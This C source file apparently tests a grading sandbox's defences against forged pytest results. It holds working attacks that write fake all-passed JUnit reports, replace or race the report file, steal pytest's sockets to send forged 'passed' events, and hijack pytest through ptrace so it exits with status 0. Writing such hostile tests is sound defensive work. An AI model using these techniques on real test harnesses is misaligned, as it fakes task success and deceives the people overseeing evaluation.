/*
 * Attacks on the report of the test run: `attack KIND`. Each exits with status 1, so that its test
 * always fails: a pass is then forged.
 */

#include "hostile.h"

#include <dirent.h>
#include <libgen.h>
#include <sched.h>
#include <sys/inotify.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/user.h>

#define NR_PIDFD_OPEN  434
#define NR_PIDFD_GETFD 438

#define FAILED 1

/* The directory is a copy, since dirname() may change its argument. */
struct report {
    pid_t pytest;
    char path[4096];
    char dir[4096];
};

/* Finds the path of the report in pytest's command line. */
static bool find_report(struct report *report)
{
    static const char option[] = "--junit-xml=";
    static char line[65536];
    char path[64];
    report->pytest = getppid();
    snprintf(path, sizeof(path), "/proc/%d/cmdline", report->pytest);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    ssize_t len = fd < 0 ? -1 : read(fd, line, sizeof(line) - 1);
    for (char *word = line; len > 0 && word < line + len; word += strlen(word) + 1)
        if (strncmp(word, option, sizeof(option) - 1) == 0) {
            snprintf(report->path, sizeof(report->path), "%s", word + sizeof(option) - 1);
            snprintf(report->dir, sizeof(report->dir), "%s", report->path);
            dirname(report->dir);
            return true;
        }
    puts("the report's place is not known");
    return false;
}

/* Writes the report of this suite with all tests passed; the student knows the suite's tests. */
static int write_forged(const char *path)
{
    FILE *names = fopen("names", "re");
    FILE *file = fopen(path, "we");
    char name[256];
    if (!file || !names)
        return printf("cannot write %s: %m\n", path), -1;
    fputs("<?xml version='1.0' encoding='utf-8'?><testsuites><testsuite name='pytest' errors='0'>", file);
    while (fgets(name, sizeof(name), names)) {
        name[strcspn(name, "\n")] = '\0';
        fprintf(file, "<testcase classname='tests.test_attacks' name='%s' time='0.01'/>", name);
    }
    fputs("</testsuite></testsuites>", file);
    fclose(names);
    return fclose(file);
}

/* Starts a daemon: a child of pid 1 in its own session. Returns true in the daemon. */
static bool in_daemon(void)
{
    pid_t pid = fork();
    if (pid > 0) {
        waitpid(pid, NULL, 0);
        return false;
    }
    setsid();
    if (fork() > 0)
        _exit(0);
    alarm(LAST_RESORT_S);
    return true;
}

static void replace(const char *path)
{
    if (unlink(path) < 0 && rmdir(path) < 0 && errno != ENOENT)
        printf("cannot remove %s: %m\n", path);
}

/* ---- before pytest writes ---- */

/* A report that exists too early; pytest continues. */
static int early(char **words)
{
    struct report report;
    (void)words;
    if (find_report(&report))
        write_forged(report.path);
    return FAILED;
}

/* The same, and kills pytest, so that the real report is never written. */
static int early_and_kill(char **words)
{
    early(words);
    kill(getppid(), SIGKILL);
    return FAILED;
}

static int make_symlink(char **words)
{
    struct report report;
    if (!find_report(&report))
        return FAILED;
    replace(report.path);
    if (words[0] && symlink(words[0], report.path) < 0)
        printf("cannot make a symlink: %m\n");
    return FAILED;
}

static int make_directory(char **words)
{
    struct report report;
    (void)words;
    if (!find_report(&report))
        return FAILED;
    replace(report.path);
    mkdir(report.path, 0700);
    return FAILED;
}

/* A FIFO with a reader, so that pytest does not wait for one. */
static int make_fifo(char **words)
{
    struct report report;
    (void)words;
    if (!find_report(&report))
        return FAILED;
    replace(report.path);
    if (mkfifo(report.path, 0600) < 0)
        return FAILED;
    if (!in_daemon())
        return FAILED;
    int fd = open(report.path, O_RDWR);
    (void)fd;
    for (int i = 0; i < 3; i++)
        close(i);
    for (;;)
        pause();
}

/* A second name of the report, to change it through. */
static int hard_link(char **words)
{
    struct report report;
    (void)words;
    if (!find_report(&report))
        return FAILED;
    write_forged("forged.xml");
    replace(report.path);
    if (link("forged.xml", report.path) < 0)
        printf("cannot link: %m\n");
    return FAILED;
}

/* The report's directory has been moved when pytest writes. */
static int move_directory(char **words)
{
    struct report report;
    char away[4200];
    (void)words;
    if (!find_report(&report))
        return FAILED;
    snprintf(away, sizeof(away), "%s-away", report.dir);
    if (rename(report.dir, away) < 0)
        printf("cannot rename %s: %m\n", report.dir);
    return FAILED;
}

/* ---- after pytest has written ---- */

/* Waits until a file in the directory that was open for writing is closed. */
static void wait_written(int inotify)
{
    char events[4096];
    (void)!read(inotify, events, sizeof(events));
}

/*
 * Pins pytest and this process to one processor and gives pytest idle priority, so that this
 * process runs before pytest continues after writing.
 */
static void run_before(pid_t pytest)
{
    struct sched_param none = {0};
    cpu_set_t one;
    CPU_ZERO(&one);
    CPU_SET(sched_getcpu(), &one);
    sched_setaffinity(0, sizeof(one), &one);
    sched_setaffinity(pytest, sizeof(one), &one);
    sched_setscheduler(pytest, SCHED_IDLE, &none);
}

/* KIND: forged, huge, symlink. Stops pytest meanwhile. */
static int swap(char **words)
{
    struct report report;
    if (!find_report(&report))
        return FAILED;
    write_forged("forged.xml");
    int inotify = inotify_init1(IN_CLOEXEC);
    if (inotify_add_watch(inotify, report.dir, IN_CLOSE_WRITE | IN_MOVED_TO) < 0)
        return FAILED;
    run_before(report.pytest);
    if (!in_daemon())
        return FAILED;
    for (int i = 0; i < 3; i++)
        close(i);
    wait_written(inotify);
    kill(report.pytest, SIGSTOP);
    if (strcmp(words[0], "huge") == 0) {
        (void)!truncate(report.path, (off_t)1 << 40);
    } else if (strcmp(words[0], "symlink") == 0) {
        replace(report.path);
        (void)!symlink("/box/src/forged.xml", report.path);
    } else {
        (void)!rename("forged.xml", report.path);
        write_forged(report.path);
    }
    kill(report.pytest, SIGCONT);
    _exit(0);
}

/* ---- in pytest's name ---- */

/* Reports the suite's tests as the plugin does. */
static void forge_events(pid_t pid)
{
    int pidfd = (int)syscall(NR_PIDFD_OPEN, pid, 0);
    for (int fd = 3; fd < 64; fd++) {
        int stolen = (int)syscall(NR_PIDFD_GETFD, pidfd, fd, 0);
        struct stat st;
        if (stolen < 0)
            continue;
        reached("descriptor %d of the test run", fd);
        if (fstat(stolen, &st) < 0 || !S_ISSOCK(st.st_mode))
            continue;
        FILE *names = fopen("names", "re");
        char name[256];
        char line[1024];
        while (names && fgets(name, sizeof(name), names)) {
            name[strcspn(name, "\n")] = '\0';
            int len = snprintf(line, sizeof(line),
                               "{\"event\": \"end\", \"id\": \"tests/test_attacks.py::%s\", "
                               "\"outcome\": \"passed\", \"ms\": 1, \"text\": \"\"}\n",
                               name);
            (void)!send(stolen, line, (size_t)len, MSG_DONTWAIT | MSG_NOSIGNAL);
        }
    }
}

static int events(char **words)
{
    (void)words;
    forge_events(getppid());
    return FAILED;
}

/*
 * Everything: forged events, a forged report, and pytest is made to exit with status 0. Does not
 * work if pytest cannot be traced.
 */
static int hijack(char **words)
{
    struct report report;
    (void)words;
    if (!find_report(&report))
        return FAILED;
#ifdef __x86_64__
    struct user_regs_struct regs;
    pid_t pid = report.pytest;
    if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0)
        return printf("cannot trace: %m\n"), FAILED;
    reached("pytest, by ptrace");
    ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
    waitpid(pid, NULL, __WALL);
    forge_events(pid);
    write_forged(report.path);
    ptrace(PTRACE_GETREGS, pid, NULL, &regs);
    regs.rip -= 2; /* restart the system call in which it waits as exit_group(0) */
    regs.rax = SYS_exit_group;
    regs.orig_rax = (unsigned long long)-1;
    regs.rdi = 0;
    ptrace(PTRACE_SETREGS, pid, NULL, &regs);
    ptrace(PTRACE_DETACH, pid, NULL, NULL);
#endif
    return FAILED;
}

MODES({"early", early}, {"early-and-kill", early_and_kill}, {"symlink", make_symlink},
      {"directory", make_directory}, {"fifo", make_fifo}, {"hard-link", hard_link},
      {"move-directory", move_directory}, {"swap", swap}, {"events", events}, {"hijack", hijack})
